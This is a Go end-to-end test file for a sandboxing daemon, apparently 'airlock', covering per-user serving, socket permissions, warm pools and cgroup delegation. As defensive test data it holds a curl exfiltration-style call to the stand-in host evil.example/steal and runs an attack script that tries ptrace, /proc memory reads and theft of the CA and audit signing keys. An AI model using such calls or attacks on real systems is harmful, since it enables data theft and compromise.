package e2e

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/api"
	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/client"
	"github.com/airlock-dev/airlock/test/poll"
)

// ciUserEnv names the unprivileged user the rootless tests run airlock as
// (scripts/unpriv-tests.sh sets it to alk-ci); unset, nobody.
const ciUserEnv = "AIRLOCK_CI_USER"

// ciUID resolves ciUserEnv (a name or a uid), else nobody's uid.
func ciUID() int {
	name := os.Getenv(ciUserEnv)
	if name == "" {
		return 65534
	}
	if u, err := user.Lookup(name); err == nil {
		if n, err := strconv.Atoi(u.Uid); err == nil && n != 0 {
			return n
		}
	}
	if n, err := strconv.Atoi(name); err == nil && n != 0 {
		return n
	}
	panic(fmt.Sprintf("%s=%q: no such unprivileged user", ciUserEnv, name))
}

// The Go client's side of TestRootServeUser, run by it as the user: the
// test binary again, selecting TestUserdGoClient with userdHelperEnv set.
const (
	userdHelperEnv = "AIRLOCK_USERD_HELPER"
	userdSocketEnv = "AIRLOCK_USERD_WANT_SOCKET"
)

// TestUserdGoClient is the Go client as the daemon's user: it finds the
// socket by the per-user rule (client.New("")), creates a sandbox allowed
// pypi.org, fetches from it and from evil.example (refused), and deletes
// it. It prints what it saw as key=value lines for TestRootServeUser.
func TestUserdGoClient(t *testing.T) {
	if os.Getenv(userdHelperEnv) == "" {
		t.Skip("the user's side of TestRootServeUser; it runs it")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	c := client.New("")
	if got, want := c.Socket(), os.Getenv(userdSocketEnv); got != want {
		t.Fatalf("socket: got %s, want %s", got, want)
	}
	h, err := c.Health(ctx)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Printf("health=%v\n", h.OK)
	sb, err := c.CreateSandbox(ctx, api.CreateSandboxRequest{Allow: []string{"pypi.org"}})
	if err != nil {
		t.Fatal(err)
	}
	fmt.Printf("owner=%d\n", sb.Owner)
	var out bytes.Buffer
	res, err := c.Exec(ctx, sb.ID, api.ExecRequest{Argv: []string{"/bin/sh", "-c", `
curl -sS --max-time 60 -o /tmp/body -w 'get=%{http_code}\n' https://pypi.org/simple/
echo "body=$(cat /tmp/body)"
curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\n' https://evil.example/steal?k=v || true
`}}, client.ExecIO{Stdout: &out, Stderr: os.Stderr})
	if err != nil {
		t.Fatal(err)
	}
	fmt.Print(out.String())
	fmt.Printf("exit=%d\n", res.ExitCode)
	if _, err := c.DeleteSandbox(ctx, sb.ID); err != nil {
		t.Fatal(err)
	}
}

// userDaemon is `airlock serve --user` run as the CI user.
type userDaemon struct {
	e             *rootlessEnv
	uid           int
	cfgHome, sock string
	cmd           *exec.Cmd
	mu            sync.Mutex // guards stderr, written by serve's pipe
	stderr        *bytes.Buffer
}

// lockedWriter writes to d.stderr under d.mu.
type lockedWriter struct{ d *userDaemon }

func (l lockedWriter) Write(p []byte) (int, error) {
	l.d.mu.Lock()
	defer l.d.mu.Unlock()
	return l.d.stderr.Write(p)
}

// userEnv is the environment a login of the user would give, with the
// rootless env's XDG directories.
func (d *userDaemon) userEnv(extra ...string) []string {
	return append([]string{"PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "HOME=/nonexistent", "LANG=C.UTF-8",
		"XDG_RUNTIME_DIR=" + d.e.runtime, "XDG_STATE_HOME=" + d.e.state, "XDG_CONFIG_HOME=" + d.cfgHome}, extra...)
}

// asUser runs argv as the user (no groups, no capabilities) in dir.
func (d *userDaemon) asUser(ctx context.Context, argv []string, env ...string) *exec.Cmd {
	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	cmd.Env = d.userEnv(env...)
	cmd.Dir = d.e.workspace
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(d.uid), Gid: uint32(d.uid), Groups: []uint32{}}}
	cmd.WaitDelay = 10 * time.Second
	return cmd
}

// startUserDaemon starts `airlock serve --user` as the user with the rootless
// env's config as its XDG config file, and waits for its socket. It is
// stopped with SIGTERM at cleanup. With a cgroup (a directory of the cgroup2
// mount), the daemon is born in it.
func startUserDaemon(t *testing.T, e *rootlessEnv, cgroup ...string) *userDaemon {
	t.Helper()
	d := &userDaemon{e: e, uid: rootlessUID, cfgHome: filepath.Join(e.dir, "xdg-config"), stderr: &bytes.Buffer{}}
	d.sock = filepath.Join(e.runtime, "airlock", "airlock.sock")
	if err := os.MkdirAll(filepath.Join(d.cfgHome, "airlock"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := copyFile(e.config, filepath.Join(d.cfgHome, "airlock", "airlock.yaml"), 0o644); err != nil {
		t.Fatal(err)
	}
	// GOGC=1: collections run all the time, so a descriptor the daemon
	// still names but no longer holds (a dropped *os.File's finalizer
	// closing it) breaks the second create at once instead of now and then.
	d.cmd = d.asUser(context.Background(), []string{e.bin, "serve", "--user"}, "GOGC=1")
	d.cmd.Stderr = lockedWriter{d}
	if len(cgroup) == 1 {
		// Moved by this root process as it clones (the user may not move
		// a process out of the root cgroup: not a common ancestor it owns).
		cg, err := os.Open(cgroup[0])
		if err != nil {
			t.Fatal(err)
		}
		defer cg.Close()
		d.cmd.SysProcAttr.UseCgroupFD, d.cmd.SysProcAttr.CgroupFD = true, int(cg.Fd())
	}
	if err := d.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = d.cmd.Process.Signal(syscall.SIGTERM)
		done := make(chan error, 1)
		go func() { done <- d.cmd.Wait() }()
		select {
		case <-done:
		case <-time.After(60 * time.Second):
			_ = d.cmd.Process.Kill()
			<-done
			t.Errorf("serve --user did not stop in 60s on SIGTERM")
		}
		t.Logf("serve --user's log:\n%s", d.log())
	})
	// The socket file appears at bind, before its mode is set and before
	// serve accepts on it: wait for serve's own word that it serves.
	poll.Until(t, 30*time.Second, "serve --user serving at "+d.sock, func() bool {
		fi, err := os.Stat(d.sock)
		return err == nil && fi.Mode()&os.ModeSocket != 0 && strings.Contains(d.log(), "msg=serving socket="+d.sock)
	})
	return d
}

// metric reads one unlabelled sample from the daemon's metrics listener, a
// free loopback port its log names (-1 when not there yet).
func (d *userDaemon) metric(t *testing.T, name string) float64 {
	t.Helper()
	m := regexp.MustCompile(`metrics=(127\.0\.0\.1:[0-9]+)`).FindStringSubmatch(d.log())
	if m == nil {
		return -1
	}
	resp, err := http.Get("http://" + m[1] + "/metrics")
	if err != nil {
		return -1
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, name+" "); ok {
			f, err := strconv.ParseFloat(strings.TrimSpace(v), 64)
			if err == nil {
				return f
			}
		}
	}
	return -1
}

// log is serve's stderr so far.
func (d *userDaemon) log() string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stderr.String()
}

// TestRootServeUser: `airlock serve --user` run by an unprivileged user
// (no sudo, no capabilities) serves that user alone. Its socket is 0600 in a
// 0700 directory of the user's under XDG_RUNTIME_DIR; root's connection is
// refused by the peer-credential check, another user's by the socket's
// mode; the Go client (this test binary again, as the user) and the Python
// client find the socket by themselves, and each creates a rootless sandbox
// that fetches from an allowed host while a denied one sees nothing; the
// audit log, in the user's state directory, verifies.
func TestRootServeUser(t *testing.T) {
	e := newRootlessEnv(t)
	d := startUserDaemon(t, e)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()

	for p, want := range map[string]os.FileMode{d.sock: 0o600, filepath.Dir(d.sock): 0o700} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if got := fi.Mode().Perm(); got != want {
			t.Errorf("%s: got mode %04o, want %04o", p, got, want)
		}
		if st := fi.Sys().(*syscall.Stat_t); int(st.Uid) != d.uid {
			t.Errorf("%s: owned by uid %d, want the user's %d", p, st.Uid, d.uid)
		}
	}

	// Root may open the socket file, but not use the daemon.
	_, err := client.New(d.sock).Health(ctx)
	if code := client.Code(err); code != api.CodeForbidden {
		t.Errorf("root's health call: got %v (code %q), want %q", err, code, api.CodeForbidden)
	}
	// Another unprivileged user cannot even connect.
	other := &userDaemon{e: e, uid: d.uid + 1, cfgHome: d.cfgHome}
	out, err := other.asUser(ctx, []string{"/usr/bin/curl", "-sS", "--unix-socket", d.sock, "http://local/v1/health"}).CombinedOutput()
	if err == nil || strings.Contains(string(out), `"ok"`) {
		t.Errorf("uid %d reached the daemon: %v\n%s", other.uid, err, out)
	}

	// The warm pool fills with rootless sandboxes before anyone asks.
	poll.Until(t, 60*time.Second, "serve --user's warm pool", func() bool {
		return d.metric(t, "airlock_sandbox_pool_depth") > 0
	})

	pypiBefore, evilBefore := snap(w.pypi), snap(w.evil)
	t.Run("go client", func(t *testing.T) {
		self, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		testBin := filepath.Join(e.dir, "e2e.test")
		if err := copyFile(self, testBin, 0o755); err != nil {
			t.Fatal(err)
		}
		cmd := d.asUser(ctx, []string{testBin, "-test.run", "^TestUserdGoClient$", "-test.count=1"},
			userdHelperEnv+"=1", userdSocketEnv+"="+d.sock)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("the Go client as uid %d: %v\n%s", d.uid, err, out)
		}
		m := kv(string(out))
		res := result{stdout: string(out)}
		wantKV(t, m, "health", "true", res)
		wantKV(t, m, "owner", strconv.Itoa(d.uid), res)
		wantKV(t, m, "get", "200", res)
		wantKV(t, m, "body", "hello from pypi.org/simple/", res)
		wantKV(t, m, "evil", "403", res)
		wantKV(t, m, "exit", "0", res)
	})
	t.Run("python client", func(t *testing.T) {
		pyDir := filepath.Join(e.dir, "python")
		if out, err := exec.Command("cp", "-r", "../../clients/python", pyDir).CombinedOutput(); err != nil {
			t.Fatalf("copy the Python client: %v\n%s", err, out)
		}
		script := `
import airlock_client as a
c = a.Client()
assert c.socket == a.default_socket() == a.user_socket(), (c.socket, a.user_socket())
print("socket=" + c.socket)
print("health=%s" % c.health().ok)
r = c.run(["/bin/sh", "-c", "curl -sS --max-time 60 -o /dev/null -w 'get=%{http_code}\\n' https://pypi.org/simple/; curl -sS --max-time 60 -o /dev/null -w 'evil=%{http_connect}\\n' https://evil.example/py || true"], allow=["pypi.org"])
print(r.stdout, end="")
print("exit=%d" % r.result.exit_code)
`
		out, err := d.asUser(ctx, []string{"/usr/bin/python3", "-c", script}, "PYTHONPATH="+pyDir, "PYTHONDONTWRITEBYTECODE=1").CombinedOutput()
		if err != nil {
			t.Fatalf("the Python client as uid %d: %v\n%s", d.uid, err, out)
		}
		m := kv(string(out))
		res := result{stdout: string(out)}
		wantKV(t, m, "socket", d.sock, res)
		wantKV(t, m, "health", "True", res)
		wantKV(t, m, "get", "200", res)
		wantKV(t, m, "evil", "403", res)
		wantKV(t, m, "exit", "0", res)
	})
	if dp := snap(w.pypi).sub(pypiBefore); dp.requests != 2 {
		t.Errorf("pypi.org: got %d requests, want 2 (one per client)", dp.requests)
	}
	if de := snap(w.evil).sub(evilBefore); de.conns != 0 || de.requests != 0 {
		t.Errorf("evil.example: got %d connections, %d requests, want none", de.conns, de.requests)
	}
	if n := d.metric(t, "airlock_sandboxes_from_pool_total"); n < 1 {
		t.Errorf("airlock_sandboxes_from_pool_total: got %v, want the Go client's sandbox from the pool", n)
	}
	recs := readRootlessLog(t, e.audit)
	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionAllow, host: "pypi.org"})
	mustFind(t, recs, match{kind: audit.KindConnect, decision: audit.DecisionDeny, host: "evil.example"})
	mustNotFind(t, recs, match{decision: audit.DecisionAllow, host: "evil.example"})
	if out, err := exec.Command(w.bin, "audit", "verify", "--pubkey", e.audit+".key.pub", e.audit).CombinedOutput(); err != nil {
		t.Errorf("audit verify: %v\n%s", err, out)
	}
}

// TestRootServeUserGuardUnreachable: a sandbox serve --user took from its
// warm pool (an init prepared before anyone asked, its island built then)
// cannot reach the daemon that guards it, as TestRootRootlessGuardUnreachable
// shows for a fresh `airlock run` sandbox: signalling, ptrace, the daemon's
// memory, environment and namespaces, and its files (the minted CA key, the
// audit signing key) all fail from inside. The same attacks, as the same
// user from outside against an unprotected process of the user, succeed,
// so each refusal is the sandbox's doing. The daemon's directories are
// outside /tmp (the sandbox's own tmpfs), so it is their masks that hide
// the files.
func TestRootServeUserGuardUnreachable(t *testing.T) {
	e := newRootlessEnv(t)
	base, err := os.MkdirTemp("/var/tmp", "alk-userd-guard-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	e.runtime, e.state, e.audit = filepath.Join(base, "xdg-run"), filepath.Join(base, "state"), filepath.Join(base, "audit", "audit.jsonl")
	for _, dir := range []string{e.runtime, e.state, filepath.Dir(e.audit)} {
		if err := os.Mkdir(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(dir, rootlessUID, rootlessUID); err != nil {
			t.Fatal(err)
		}
	}
	b, _ := os.ReadFile(e.config)
	if err := os.WriteFile(e.config, bytes.Replace(b, []byte(filepath.Join(e.dir, "audit", "audit.jsonl")), []byte(e.audit), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	attacker := filepath.Join(e.dir, "attack.py")
	if err := os.WriteFile(attacker, []byte(guardAttacks), 0o644); err != nil {
		t.Fatal(err)
	}
	d := startUserDaemon(t, e)
	gw := d.cmd.Process.Pid // the front executes airlock-core in place
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	keys, _ := filepath.Glob(filepath.Join(e.state, "airlock", "*", "ca", "*.key"))
	if len(keys) != 1 {
		all, _ := exec.Command("find", base).CombinedOutput()
		t.Fatalf("the daemon's minted CA key: got %q, want one\n%s", keys, all)
	}
	caKey, auditKey := keys[0], e.audit+".key"
	poll.Until(t, 60*time.Second, "serve --user's warm pool", func() bool {
		return d.metric(t, "airlock_sandbox_pool_depth") > 0
	})
	pooledBefore := d.metric(t, "airlock_sandboxes_from_pool_total")

	// Outside the sandbox, as the same user: a process in user, network and
	// mount namespaces of its own, as a sandbox's init is, falls to every
	// attack, and the key files are readable.
	decoy := d.asUser(ctx, []string{"/usr/bin/unshare", "-Urnm", "sleep", "60"})
	if err := decoy.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = decoy.Process.Kill(); _ = decoy.Wait() }()
	time.Sleep(200 * time.Millisecond) // unshare has executed sleep
	ctl, err := d.asUser(ctx, []string{"/usr/bin/python3", attacker, fmt.Sprint(decoy.Process.Pid), caKey, auditKey}).CombinedOutput()
	if err != nil {
		t.Fatalf("control attacker: %v\n%s", err, ctl)
	}
	cm := kv(string(ctl))
	for _, k := range []string{"ptrace", "mem", "environ", "setns", "file0", "file1", "kill"} {
		if cm[k] != "ok" {
			t.Errorf("control: %s against an unprotected process: got %q, want ok (the test proves nothing)\n%s", k, cm[k], ctl)
		}
	}

	// Inside a pooled sandbox, through the API.
	pyDir := filepath.Join(e.dir, "python")
	if out, err := exec.Command("cp", "-r", "../../clients/python", pyDir).CombinedOutput(); err != nil {
		t.Fatalf("copy the Python client: %v\n%s", err, out)
	}
	script := `
import sys, airlock_client as a
c = a.Client()
r = c.run(["python3", "-c", open(sys.argv[1]).read()] + sys.argv[2:])
print(r.stdout, end="")
print("exit=%d" % r.result.exit_code)
`
	out, err := d.asUser(ctx, []string{"/usr/bin/python3", "-c", script, attacker, fmt.Sprint(gw), caKey, auditKey},
		"PYTHONPATH="+pyDir, "PYTHONDONTWRITEBYTECODE=1").CombinedOutput()
	t.Logf("a pooled serve --user sandbox attacking its daemon\n%s", out)
	if err != nil {
		t.Fatalf("the Python client as uid %d: %v", d.uid, err)
	}
	if err := d.cmd.Process.Signal(syscall.Signal(0)); err != nil {
		t.Fatalf("the daemon: %v (the sandbox killed it?)", err)
	}
	m := kv(string(out))
	for k, want := range map[string]string{
		"ptrace": "EPERM", "mem": "ENOENT", "environ": "ENOENT", "setns": "ENOENT",
		"file0": "ENOENT", "file1": "ENOENT", "kill": "ESRCH", "exit": "0",
	} {
		if m[k] != want {
			t.Errorf("%s from the pooled sandbox: got %q, want %q", k, m[k], want)
		}
	}
	if n := d.metric(t, "airlock_sandboxes_from_pool_total"); n != pooledBefore+1 {
		t.Errorf("airlock_sandboxes_from_pool_total: got %v, want %v (the attacking sandbox came from the pool)", n, pooledBefore+1)
	}
}

// TestRootServeUserDelegatedCgroup: serve --user started in a cgroup v2
// subtree delegated to its user the way systemd's Delegate= does
// (delegateCgroup) finds it, and each sandbox, pooled ones included, is
// born in a cgroup of its own below it: the warm pool's inits wait there
// before anyone asks, a sandbox's command runs there, and deleting the
// sandbox removes its cgroup, as stopping the daemon removes the pool's.
// The pids limit is checked only where the cgroup2 mount offers the pids
// controller (on a host whose controllers are all on cgroup v1 it does
// not, and the sandbox is bounded by rlimits: the test says so).
func TestRootServeUserDelegatedCgroup(t *testing.T) {
	e := newRootlessEnv(t)
	deleg, leaf := delegateCgroup(t, e)
	root := filepath.Dir(deleg)
	ctrls, err := os.ReadFile(filepath.Join(root, "cgroup.controllers"))
	if err != nil {
		t.Fatal(err)
	}
	pids := strings.Contains(" "+string(ctrls)+" ", " pids ")
	if pids {
		// As systemd enables what the delegated unit may use.
		if err := os.WriteFile(filepath.Join(root, "cgroup.subtree_control"), []byte("+pids"), 0); err != nil {
			t.Fatalf("enable pids below %s: %v", root, err)
		}
	} else {
		t.Logf("the cgroup2 mount %s offers no pids controller (%q): the pids limit is not checked", root, strings.TrimSpace(string(ctrls)))
	}
	d := startUserDaemon(t, e, leaf)
	if !strings.Contains(d.log(), "cgroup v2 delegated to you at "+deleg) {
		t.Fatalf("serve --user did not find the delegated cgroup %s\n%s", deleg, d.log())
	}
	poll.Until(t, 60*time.Second, "serve --user's warm pool", func() bool {
		return d.metric(t, "airlock_sandbox_pool_depth") > 0
	})
	// The pooled inits wait in cgroups of their own below deleg/airlock.
	pooled := airlockCgroups(t, deleg)
	if len(pooled) == 0 {
		t.Fatalf("the warm pool is filled but no cgroup below %s/airlock holds an init", deleg)
	}
	fromPool := d.metric(t, "airlock_sandboxes_from_pool_total")

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	pyDir := filepath.Join(e.dir, "python")
	if out, err := exec.Command("cp", "-r", "../../clients/python", pyDir).CombinedOutput(); err != nil {
		t.Fatalf("copy the Python client: %v\n%s", err, out)
	}
	// The sandbox has a pid namespace of its own: the test finds its
	// command by an argument only the shell inside computes.
	script := `
import sys, airlock_client as a
c = a.Client()
s = c.create_sandbox()
print("id=" + s.id, flush=True)
r = c.run_command(s.id, ["/bin/sh", "-c", "exec /bin/sh -c 'sleep 3; :' alk-deleg-$((40+2))"])
print("exit=%d" % r.result.exit_code, flush=True)
c.delete_sandbox(s.id)
print("deleted=1", flush=True)
`
	cmd := d.asUser(ctx, []string{"/usr/bin/python3", "-c", script}, "PYTHONPATH="+pyDir, "PYTHONDONTWRITEBYTECODE=1")
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var cg string
	for i := 0; i < 100 && cg == ""; i++ {
		cg = cgroupOfMarker(t, "alk-deleg-42")
		time.Sleep(50 * time.Millisecond)
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("the Python client: %v\n%s", err, out.String())
	}
	m := kv(out.String())
	if m["exit"] != "0" || m["deleted"] != "1" {
		t.Fatalf("the client: got %q\n%s", m, out.String())
	}
	if n := d.metric(t, "airlock_sandboxes_from_pool_total"); n != fromPool+1 {
		t.Errorf("airlock_sandboxes_from_pool_total: got %v, want %v (the sandbox came from the pool)", n, fromPool+1)
	}
	// Its command ran in a cgroup of its own below the delegated one.
	rel := strings.TrimPrefix(deleg, root)
	if !strings.HasPrefix(cg, rel+"/airlock/airlock-") {
		t.Fatalf("the sandbox's command ran in cgroup %q, want one below %s/airlock", cg, rel)
	}
	// The sandbox's cgroup: the first level below airlock (its command may
	// run in a child of it).
	name, _, _ := strings.Cut(strings.TrimPrefix(cg, rel+"/airlock/"), "/")
	dir := filepath.Join(deleg, "airlock", name)
	if pids {
		// limits.pids in the rootless env's config, plus the 16 tasks
		// sandboxd keeps for init's own threads (initPidsOverhead).
		if b, err := os.ReadFile(filepath.Join(dir, "pids.max")); err != nil || strings.TrimSpace(string(b)) != "528" {
			t.Errorf("%s/pids.max: got %q (%v), want 528", dir, b, err)
		}
	}
	// Deleted: its cgroup is gone.
	poll.Until(t, 10*time.Second, "the deleted sandbox's cgroup "+dir+" removed", func() bool {
		_, err := os.Stat(dir)
		return errors.Is(err, os.ErrNotExist)
	})
	// Stopping the daemon removes the pool's cgroups (delegateCgroup's
	// cleanup fails the test on any left).
	_ = d.cmd.Process.Signal(syscall.SIGTERM)
	poll.Until(t, 60*time.Second, "serve --user's cgroups below "+deleg+" removed at stop", func() bool {
		return len(airlockCgroups(t, deleg)) == 0
	})
}

// airlockCgroups are the sandbox cgroups below deleg/airlock.
func airlockCgroups(t *testing.T, deleg string) []string {
	t.Helper()
	got, err := filepath.Glob(filepath.Join(deleg, "airlock", "airlock-*"))
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// cgroupOfMarker is the cgroup v2 path of a process with marker for an
// argument, "" when there is none.
func cgroupOfMarker(t *testing.T, marker string) string {
	t.Helper()
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range dirs {
		b, err := os.ReadFile(filepath.Join(p, "cmdline"))
		if err != nil || !strings.Contains(string(b), "\x00"+marker+"\x00") {
			continue
		}
		cg, err := os.ReadFile(filepath.Join(p, "cgroup"))
		if err != nil {
			continue
		}
		for _, line := range strings.Split(string(cg), "\n") {
			if rest, ok := strings.CutPrefix(line, "0::"); ok {
				return rest
			}
		}
	}
	return ""
}
